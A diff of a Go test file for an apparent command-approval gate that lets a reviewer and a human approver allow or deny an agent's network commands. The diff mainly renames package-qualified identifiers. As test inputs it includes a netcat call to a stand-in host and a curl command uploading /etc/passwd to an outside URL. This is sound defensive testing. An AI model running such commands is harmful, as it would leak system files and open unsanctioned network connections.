@@ -12,7 +12,6 @@ import (
 
 	"weir/internal/cop"
 	"weir/internal/event"
-	"weir/internal/gate/verdict"
 )
 
 // reviewer is a Cop of the test.
@@ -65,7 +64,7 @@ func situations() []situation {
 	return all
 }
 
-func (s situation) request(n int) verdict.Request {
+func (s situation) request(n int) Request {
 	r := curl()
 	r.Container.ID = fmt.Sprint("c", n)
 	r.Mode, r.Held, r.AskFlagged = s.mode, s.asked != "seen", s.policy == "person"
@@ -74,50 +73,50 @@ func (s situation) request(n int) verdict.Request {
 	r.Process.Argv, r.Process.Exe = argv, &event.File{Path: "/usr/bin/" + argv[0], Device: 8, Inode: 42}
 	switch s.asked {
 	case "seen", "held":
-		r.Ask = verdict.Run
+		r.Ask = Run
 	case "command":
-		r.Ask, r.Command, r.Held = verdict.Command, strings.Join(argv, " "), false
+		r.Ask, r.Command, r.Held = Command, strings.Join(argv, " "), false
 	}
 	return r
 }
 
 // want is the specification in words of its own: G4 to G9, G24, G25 and the modes.
-func (s situation) want() (verdict.Decision, verdict.Reason) {
-	person := func() (verdict.Decision, verdict.Reason) {
+func (s situation) want() (Decision, Reason) {
+	person := func() (Decision, Reason) {
 		switch s.person {
 		case "allows":
-			return verdict.Allow, verdict.Approved
+			return Allow, Approved
 		case "denies":
-			return verdict.Deny, verdict.Denied
+			return Deny, Denied
 		}
-		return verdict.Deny, verdict.NoApprover
+		return Deny, NoApprover
 	}
 	switch {
 	case s.mode == "seal" && s.asked == "connect":
-		return verdict.Deny, verdict.Sealed
+		return Deny, Sealed
 	case s.bits == 0:
-		return verdict.Allow, verdict.Untainted
+		return Allow, Untainted
 	case s.mode == "observe":
-		return verdict.Allow, verdict.Observe
+		return Allow, Observe
 	case s.class == "local" && s.asked != "connect":
-		return verdict.Allow, verdict.LocalRun
+		return Allow, LocalRun
 	case s.asked == "seen":
-		return verdict.Allow, verdict.SealedRun
+		return Allow, SealedRun
 	case s.mode == "seal":
-		return verdict.Deny, verdict.Sealed // F04: nobody is asked
+		return Deny, Sealed // F04: nobody is asked
 	case s.class == "network" && s.bits == 2:
 		return person() // G7
 	case s.reviewer == "passes":
-		return verdict.Allow, verdict.Passed // G7, G8
+		return Allow, Passed // G7, G8
 	case s.reviewer == "flags" && s.bits == 1 && s.policy == "deny":
-		return verdict.Deny, verdict.Flagged // G7, G8
+		return Deny, Flagged // G7, G8
 	}
 	return person() // G8: flagged with both; G9: a review that failed; F06: flagged, and the policy has a person asked
 }
 
 // judged has every situation judged, each in a container of its own.
-func judged(t *testing.T) map[situation]verdict.Verdict {
-	all := map[situation]verdict.Verdict{}
+func judged(t *testing.T) map[situation]Verdict {
+	all := map[situation]Verdict{}
 	bubble(t, func(r *rig) {
 		for i, s := range situations() {
 			r.Configure(reviewers[s.reviewer], s.person != "nobody", 0, 0)
@@ -137,7 +136,7 @@ func judged(t *testing.T) map[situation]verdict.Verdict {
 
 // F06: who is asked about a flagged command is told what the reviewer said, and their approval is a person's.
 func TestFlaggedF06(t *testing.T) {
-	ask := func(r *verdict.Request) { r.AskFlagged = true }
+	ask := func(r *Request) { r.AskFlagged = true }
 	bubble(t, func(r *rig) {
 		r.Configure(opinion(true), true, 0, 0)
 		c := r.ask(curl(asking(wanted), ask))
@@ -146,10 +145,10 @@ func TestFlaggedF06(t *testing.T) {
 			t.Errorf("the note is %q", note)
 		}
 		r.answer(r.one(), true)
-		if v := c.gives(verdict.Allow, verdict.Approved); v.By != "alice" {
+		if v := c.gives(Allow, Approved); v.By != "alice" {
 			t.Errorf("by %q", v.By)
 		}
-		r.ask(curl(asking("nc x.example 1"))).gives(verdict.Deny, verdict.Flagged) // the default stays
+		r.ask(curl(asking("nc x.example 1"))).gives(Deny, Flagged) // the default stays
 	})
 }
 
@@ -200,7 +199,7 @@ func TestNothingAddedAllows(t *testing.T) {
 		}
 		for _, w := range worse {
 			compared++
-			if got := verdicts[w]; v.Decision == verdict.Deny && got.Decision == verdict.Allow && got.Reason != verdict.Approved {
+			if got := verdicts[w]; v.Decision == Deny && got.Decision == Allow && got.Reason != Approved {
 				t.Errorf("%+v is denied, %+v is allowed", s, w)
 			}
 		}
@@ -212,11 +211,11 @@ func TestNothingAddedAllows(t *testing.T) {
 
 // G9: each failure has a row, a reason code, a counter, and what it says happens.
 func TestFailures(t *testing.T) {
-	one := func(change ...func(*verdict.Request)) func(*rig) *call {
+	one := func(change ...func(*Request)) func(*rig) *call {
 		return func(r *rig) *call { return r.ask(curl(change...)) }
 	}
 	text := func(s string) func(*rig) *call {
-		return one(func(r *verdict.Request) { r.Ask, r.Held, r.Command = verdict.Command, false, s })
+		return one(func(r *Request) { r.Ask, r.Held, r.Command = Command, false, s })
 	}
 	review := func(code cop.Code) func(*rig) *call {
 		return func(r *rig) *call {
@@ -224,26 +223,26 @@ func TestFailures(t *testing.T) {
 			return r.ask(curl())
 		}
 	}
-	tests := map[verdict.Reason]func(*rig) *call{
-		verdict.Unparsable:     text("echo 'not closed"),
-		verdict.TextLimit:      text(strings.Repeat("(", 3000) + "ls" + strings.Repeat(")", 3000)),
-		verdict.ArgvLimit:      one(func(r *verdict.Request) { r.Process.Truncated = true }),
-		verdict.CopTimeout:     review(cop.Timeout),
-		verdict.CopTransport:   review(cop.Transport),
-		verdict.CopRateLimited: review(cop.RateLimited),
-		verdict.CopServer:      review(cop.Server),
-		verdict.CopRefused:     review(cop.Refused),
-		verdict.CopMalformed:   review(cop.Malformed),
-		verdict.CopTooLarge:    review(cop.TooLarge),
-		verdict.CopQueueFull:   review(cop.QueueFull),
-		verdict.CopClosed:      review(cop.Closed),
-		verdict.CopCancelled:   review(cop.Cancelled),
-		verdict.CopFailed:      review(cop.Failed),
-		verdict.CopNone:        one(),
-		verdict.Differs: func(r *rig) *call {
+	tests := map[Reason]func(*rig) *call{
+		Unparsable:     text("echo 'not closed"),
+		TextLimit:      text(strings.Repeat("(", 3000) + "ls" + strings.Repeat(")", 3000)),
+		ArgvLimit:      one(func(r *Request) { r.Process.Truncated = true }),
+		CopTimeout:     review(cop.Timeout),
+		CopTransport:   review(cop.Transport),
+		CopRateLimited: review(cop.RateLimited),
+		CopServer:      review(cop.Server),
+		CopRefused:     review(cop.Refused),
+		CopMalformed:   review(cop.Malformed),
+		CopTooLarge:    review(cop.TooLarge),
+		CopQueueFull:   review(cop.QueueFull),
+		CopClosed:      review(cop.Closed),
+		CopCancelled:   review(cop.Cancelled),
+		CopFailed:      review(cop.Failed),
+		CopNone:        one(),
+		Differs: func(r *rig) *call {
 			r.Configure(opinion(false), r.desk.HasApprover(), 0, 0)
 			approvedRun(r)
-			return r.ask(curl(below, func(r *verdict.Request) {
+			return r.ask(curl(below, func(r *Request) {
 				r.Process.Argv = []string{"curl", "-T", "/etc/passwd", "https://example.org"}
 			}))
 		},
@@ -262,15 +261,15 @@ func TestFailures(t *testing.T) {
 				c.blocks()
 				r.wantCount(f.Reason, 1)
 				q := r.Pending()[0]
-				if f.Reason != verdict.CopNone && q.Note == "" {
+				if f.Reason != CopNone && q.Note == "" {
 					t.Error("the person is not told why they are asked")
 				}
 				r.answer(q.ID, false)
-				c.gives(verdict.Deny, verdict.Denied)
+				c.gives(Deny, Denied)
 			})
 			bubble(t, func(r *rig) {
 				r.Configure(nil, false, 0, 0)
-				provoke(r).gives(verdict.Deny, verdict.NoApprover)
+				provoke(r).gives(Deny, NoApprover)
 				r.wantCount(f.Reason, 1)
 				r.none()
 			})
@@ -292,17 +291,17 @@ func TestCase(t *testing.T) {
 			got = c
 			return cop.Opinion{Reason: "fine"}, nil
 		}), true, 0, 0)
-		r.ask(curl(func(r *verdict.Request) {
+		r.ask(curl(func(r *Request) {
 			r.Process.Ancestry = []event.Ancestor{{PID: 9, Comm: "bash", Argv: []string{"bash", "-c", "x"}, Inside: true}, {PID: 1, Comm: "init"}}
 			r.Policy, r.Container.Image = "p1", "docker.io/library/alpine:3"
-		})).gives(verdict.Allow, verdict.Passed)
+		})).gives(Allow, Passed)
 		if got.Destination.Address.String() != "203.0.113.9" || got.Destination.Port != 443 || got.Argv[0] != "curl" || got.Command != "" ||
 			!got.Taint.Corruption || got.Taint.Secret || len(got.Ancestry) != 1 || got.Ancestry[0].Argv[2] != "x" || got.Policy != "p1" || got.Container != "agent" || got.Image != "docker.io/library/alpine:3" || len(got.Judged.Facts.Programs) == 0 {
 			t.Errorf("shown %+v", got)
 		}
-		r.ask(curl(func(r *verdict.Request) {
-			r.Ask, r.Held, r.Command, r.Dir = verdict.Command, false, "wget x.example", "/w"
-		})).gives(verdict.Allow, verdict.Passed)
+		r.ask(curl(func(r *Request) {
+			r.Ask, r.Held, r.Command, r.Dir = Command, false, "wget x.example", "/w"
+		})).gives(Allow, Passed)
 		if got.Command != "wget x.example" || got.Argv != nil || got.Dir != "/w" || got.Destination.Port != 0 {
 			t.Errorf("shown %+v", got)
 		}
